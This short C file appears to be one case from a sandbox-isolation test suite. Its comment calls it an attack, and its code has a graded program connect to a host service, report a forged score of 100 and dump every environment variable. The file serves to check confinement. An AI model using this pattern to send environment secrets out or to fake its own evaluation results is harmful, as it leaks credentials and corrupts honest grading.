/*
 * attack: sends its score to a service of the machine, with what the
 *   environment holds
 * row: A11
 * would show: the service heard of it
 * unconfined: works
 * defence: a network of its own, an empty environment; the instructor hands
 *   results on
 */
#include "attack.h"

extern char **environ;

int main(void) {
    int fd = dial();
    if (fd != -1) {
        dprintf(fd, "score 100 from @MARK@\n");
        for (char **e = environ; *e; e++)
            dprintf(fd, "%s\n", *e);
        worked("the service was told");
    }
    return 1;
}
